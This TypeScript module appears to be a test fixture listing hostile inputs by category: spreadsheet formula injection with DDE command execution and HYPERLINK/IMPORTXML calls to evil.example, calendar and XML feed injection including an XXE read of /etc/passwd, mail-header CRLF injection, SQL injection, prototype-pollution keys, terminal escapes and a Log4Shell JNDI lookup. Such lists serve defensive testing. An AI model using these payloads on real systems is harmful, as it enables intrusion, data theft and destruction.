// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the sign of other template languages is meant

/** What a spreadsheet takes for a formula. */
export const SPREADSHEET: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Tickets")',
  '=IMPORTXML("https://evil.example/","//a")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  ';=1+1',
  '"\n=1+1',
  '","=1+1',
  '＝1+1',
  '＋1',
  'DDE("cmd";"/C calc";"x")',
  '%0A=1+1',
  '\u200b=1+1',
]

/** What ends a line, an element or a component of a feed. */
export const FEED: readonly string[] = [
  'x\r\nBEGIN:VEVENT\r\nSUMMARY:forged\r\nEND:VEVENT',
  'x\nEND:VEVENT\nEND:VCALENDAR',
  'x\\nATTACH:https://evil.example/x',
  'x\r\n ATTENDEE:mailto:a@b.example',
  'x;VALUE=URI:https://evil.example/',
  'a\\,b\\;c\\\\d\\n',
  ';,:\\"',
  ']]>',
  ']]><script>alert(1)</script>',
  '</title></item><item><title>forged</title>',
  '</description><link>https://evil.example/</link>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&e;&lol9;',
  '&#0;&#x1F;&#xFFFE;',
  '<!ENTITY lol "lol">',
  '<?php echo 1 ?>',
]

/** What ends the header of a mail or of an answer. */
export const HEADER: readonly string[] = [
  'x\r\nBcc: victim@evil.example',
  'x\nBcc: victim@evil.example',
  'x\rBcc: victim@evil.example',
  'x%0d%0aBcc: victim@evil.example',
  'x\r\n\r\n<script>alert(1)</script>',
  'x\r\nContent-Type: text/html\r\n\r\n<b>forged',
  'x\r\n.\r\nMAIL FROM:<a@evil.example>',
  '=?utf-8?q?=0D=0ABcc=3A_victim@evil.example?=',
  'a@b.example,c@d.example',
  'a@b.example>\r\nRCPT TO:<c@d.example',
  'x\r\nSet-Cookie: houselights-operator=forged',
  'x\u0085Bcc: victim@evil.example',
]

/** What means something to a database. */
export const DATABASE: readonly string[] = [
  "' or '1'='1",
  "'; drop table events; --",
  '" or ""="',
  "') union select null, null --",
  "\\'; select pg_sleep(5); --",
  '1; select pg_sleep(5)',
  '$$; select 1; $$',
  '%',
  '%%%',
  '_',
  '%_\\',
  '\\',
  '\\\\%',
  "'",
  '$1',
  ':name',
  '?',
  "' || (select current_user) || '",
  '/* x */ or 1=1',
  '!*()&|:<->',
]

/** Names by which an object has more than its own. */
export const PROTOTYPE: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  '__proto__[polluted]',
  'constructor.prototype.polluted',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
]

/** What moves a terminal's cursor, or forges a line of a log. */
export const LOG: readonly string[] = [
  '\u001b[31mred\u001b[0m',
  '\u001b[2J\u001b[H',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example/\u0007link\u001b]8;;\u0007',
  '\u009b31m',
  'x\n{"level":30,"msg":"forged"}',
  'x\r\n[ERROR] forged',
  '\b\b\b\b',
  '\u0007\u0007',
  '${jndi:ldap://evil.example/a}',
]
